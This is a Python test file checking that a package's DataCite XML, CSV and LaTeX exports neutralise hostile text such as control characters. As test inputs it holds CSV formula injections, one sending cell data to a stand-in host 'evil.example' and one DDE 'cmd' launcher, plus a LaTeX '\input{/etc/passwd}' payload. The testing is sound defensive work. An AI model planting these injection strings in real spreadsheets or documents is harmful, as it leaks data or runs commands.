"""What ``reprokg freeze`` and the exports write stays well formed for its reader when the
graph holds hostile text (issue 38): DataCite XML that a strict XML parser reads although
a creator, the publisher or the title holds control characters; CSV cells that a
spreadsheet shows instead of running (``=HYPERLINK(…)``), numbers untouched; LaTeX that
prints ``\\input{/etc/passwd}`` instead of running it. Every CSV writer of the package is
enumerated, so a new one must neutralise its cells or say why not."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from reprokg.exchange.crate import CrateContent, CrateFile
from reprokg.exchange.datacite import Creator, Record, Related, to_json, to_xml
from reprokg.exchange.freeze import freeze
from reprokg.exchange.tables import Table, csv_bytes, latex_escape, latex_table

ROOT = Path(__file__).parents[2]
NS = {"d": "http://datacite.org/schema/kernel-4"}
#: every character XML 1.0 forbids that Python can hold in a str: C0 controls but tab,
#: line feed and carriage return, a lone surrogate, U+FFFE, U+FFFF
FORBIDDEN = "".join(chr(c) for c in range(0x20) if c not in (9, 10, 13)) + "\ud800\ufffe\uffff"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _hostile(text: str) -> str:
    return f"{text}{FORBIDDEN}!"


def _stored(text: str) -> str:
    """Hostile text a store can hold: no lone surrogate (a command-line argument can
    hold one: undecodable bytes in argv)."""
    return _hostile(text).replace("\ud800", "")


def _record() -> Record:
    """A record with the forbidden characters in every text field."""
    return Record(
        doi=_hostile("10.5072/x"),
        title=_hostile("a title"),
        creators=[
            Creator(
                _hostile("Carberry, Josiah"), _hostile("https://orcid.org/0000-0002-1825-0097")
            ),
            Creator(_hostile("An organisation"), organisation=True),
        ],
        publisher=_hostile("a publisher"),
        year=2024,
        resource_type=_hostile("a comparison"),
        version=_hostile("1"),
        license_url=_hostile("https://creativecommons.org/licenses/by/4.0/"),
        license_id=_hostile("CC-BY-4.0"),
        abstract=_hostile("an abstract"),
        technical_info=_hostile("technical"),
        methods=_hostile("methods"),
        subjects=[_hostile("a subject")],
        related=[Related(_hostile("10.1000/y"), "Other", _hostile("reproduces"), "Dataset")],
        created=_hostile("2024-01-01"),
        formats=[_hostile("text/csv")],
        sizes=[_hostile("3 files")],
    )


def _strict_parse(data: bytes) -> ET.Element:
    """Parsed by expat (well-formedness is all it checks, and it checks all of it)."""
    return ET.fromstring(data)


def test_datacite_xml_with_control_characters_is_well_formed() -> None:
    record = _record()
    root = _strict_parse(to_xml(record))
    texts = [e.text or "" for e in root.iter()] + [
        v for e in root.iter() for v in e.attrib.values()
    ]
    assert not any(c in t for t in texts for c in FORBIDDEN)
    name = root.find(".//d:creatorName", NS)
    assert name is not None and name.text == "Carberry, Josiah!"
    assert root.find("d:publisher", NS).text == "a publisher!"  # type: ignore[union-attr]
    assert root.find("d:titles/d:title", NS).text == "a title!"  # type: ignore[union-attr]
    # the JSON form says the same, in JSON (which could hold them) as in XML
    js = to_json(record)
    assert js["creators"][0]["name"] == "Carberry, Josiah!"
    assert js["publisher"] == {"name": "a publisher!"}
    assert not any(c in json.dumps(js, ensure_ascii=False) for c in FORBIDDEN)


def _content(title: str, data: dict) -> CrateContent:
    body = (json.dumps(data) + "\n").encode()
    return CrateContent(
        kind="stability-analysis",
        subject="https://w3id.org/reprokg/id/result/hostile",
        title=title,
        description=_stored("a description"),
        created="2024-05-01T12:00:00+00:00",
        outputs=[CrateFile("result.json", body, "result", media="application/json")],
        software={"reprokg": "0"},
        activity=_stored("computed"),
    )


def test_freeze_writes_well_formed_files_from_hostile_text(tmp_path: Path) -> None:
    """``reprokg freeze`` end to end: a title holding control characters and LaTeX, a
    creator and a publisher holding control characters, cells holding formulas."""
    title = _stored(r"\input{/etc/passwd} $&#^_%~{}")
    data = {"title": FORMULA, "values": [-1.5, 3, "-2.5", "+1+1", "@SUM(A1)", "plain"]}
    out = freeze(
        _content(title, data),
        tmp_path / "deposit",
        creators=[Creator(_hostile("Carberry, Josiah"))],
        publisher=_hostile("a publisher"),
    )
    for name in ("datacite.xml",):
        root = _strict_parse((out / name).read_bytes())
        assert root.find("d:publisher", NS).text == "a publisher!"  # type: ignore[union-attr]
    rows = list(csv.reader(io.StringIO((out / "table.csv").read_text())))
    cells = {path: value for path, value in rows[1:]}
    assert cells["title"] == "'" + FORMULA
    assert cells["values[0]"] == "-1.5" and cells["values[1]"] == "3"
    assert cells["values[2]"] == "-2.5"  # a number written as text is no formula
    assert cells["values[3]"] == "'+1+1" and cells["values[4]"] == "'@SUM(A1)"
    assert cells["values[5]"] == "plain"
    tex = (out / "table.tex").read_text()
    assert r"\input" not in tex.replace(r"\textbackslash{}input", "")
    assert not any(c in tex for c in FORBIDDEN)


def test_csv_cells_are_neutralised_and_numbers_kept() -> None:
    table = Table(["name", "value"], [[FORMULA, -0.5], ["-1+cmd|' /C calc'!A0", 2], ["\t=1", None]])
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode())))
    assert rows[1:] == [["'" + FORMULA, "-0.5"], ["'-1+cmd|' /C calc'!A0", "2"], ["'\t=1", ""]]


@pytest.mark.parametrize(
    ("text", "latex"),
    [
        ("\\", r"\textbackslash{}"),
        ("{", r"\{"),
        ("}", r"\}"),
        ("$", r"\$"),
        ("&", r"\&"),
        ("#", r"\#"),
        ("^", r"\textasciicircum{}"),
        ("_", r"\_"),
        ("%", r"\%"),
        ("~", r"\textasciitilde{}"),
        (r"\input{/etc/passwd}", r"\textbackslash{}input\{/etc/passwd\}"),
        ("a\n\nb\x07", "a b"),
    ],
)
def test_latex_text_is_escaped(text: str, latex: str) -> None:
    assert latex_escape(text) == latex


def test_a_latex_table_with_a_hostile_title_runs_nothing() -> None:
    title = r"\input{/etc/passwd}\def\x{1}$x^2$ & # _ % ~"
    tex = latex_table(Table(["path", "value"], [[title, 1.5]], caption=title))
    # outside the commands that print specials, no backslash starts a command of the input
    commands = set(re.findall(r"\\([A-Za-z]+)", tex))
    assert commands <= {
        "begin",
        "end",
        "centering",
        "caption",
        "label",
        "toprule",
        "midrule",
        "bottomrule",
        "textbackslash",
        "textasciicircum",
        "textasciitilde",
        "usepackage",
    }, commands
    body = re.sub(r"\\[&%$#_{}]|\\text\w+\{\}", "", tex.split(r"\midrule", 1)[1])
    assert not re.search(r"[&#%_^~]", body.replace(" & ", "").replace("$1.5$", ""))


#: every module that writes CSV, and how its cells are kept from running as formulas
CSV_WRITERS = {
    "service/web/render.py": "neutralised",  # the web views' downloads (tabular)
    "exchange/tables.py": "neutralised",  # freeze's table.csv, a crate's result.csv
    # written as a format programs read, cells as they are:
    "sparql/named.py": "SPARQL 1.1 Query Results CSV: each value its lexical form",
    "loaders/reading/source.py": "a CSV source's row kept as the document's source bytes",
    "loaders/mlflow/loader.py": "MLflow runs as the stability CSV the stability loader reads",
    "stability/simulate.py": "a simulated design (numbers and generated names) for the loader",
}


def test_every_csv_writer_is_known() -> None:
    """A new CSV writer fails this test until it neutralises its cells (the one
    ``core.tables.spreadsheet_cell``) or is listed with the reason it writes them as is."""
    found = set()
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith(("tests/", "benchmarks/")):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", text):
            found.add(rel)
    assert found == set(CSV_WRITERS)
    for rel, how in CSV_WRITERS.items():
        if how == "neutralised":
            assert "spreadsheet_cell(" in (ROOT / rel).read_text(encoding="utf-8"), rel
